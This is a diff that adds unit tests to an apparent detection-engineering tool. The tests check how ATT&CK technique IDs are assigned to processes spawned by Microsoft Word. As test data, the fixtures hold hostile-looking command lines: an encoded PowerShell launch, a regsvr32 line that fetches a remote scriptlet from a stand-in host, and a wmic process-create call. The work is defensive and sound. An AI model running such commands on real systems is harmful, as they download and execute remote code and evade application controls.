@@ -152,3 +152,21 @@ describe('hunting leads', () => {
     expect(buildTechniques([focused, lead], catalog).map((t) => t.technique_id)).toEqual(['T1135']);
   });
 });
+
+describe('program techniques of a broad rule', () => {
+  const officeChild = (child: string, commandLine: string) => {
+    const e = event(0, '2026-03-02T09:14:09Z', { action: 'process_create', entities: { process: child, commandLine, parentProcess: 'WINWORD.EXE', host: 'ws-1' } });
+    const lookupOne = lookupOf([e]);
+    const s = makeSignal('detection', 'o', { id: 'o', title: 'Suspicious Microsoft Office Child Process', level: 'high', tags: ['attack.execution', 'attack.t1047', 'attack.t1204.002', 'attack.t1218.010'] }, [0], lookupOne, catalog);
+    return buildTechniques([s], catalog, { lookup: lookupOne }).map((t) => t.technique_id).sort();
+  };
+
+  it('keeps only the programs that ran: PowerShell under Word is neither WMI nor Regsvr32', () => {
+    expect(officeChild('powershell.exe', 'powershell.exe -nop -enc SQBFAFgA')).toEqual(['T1204.002']);
+  });
+
+  it('keeps the program technique when that program ran', () => {
+    expect(officeChild('regsvr32.exe', 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll')).toEqual(['T1204.002', 'T1218.010']);
+    expect(officeChild('cmd.exe', 'cmd /c wmic process call create calc')).toEqual(['T1047', 'T1204.002']);
+  });
+});
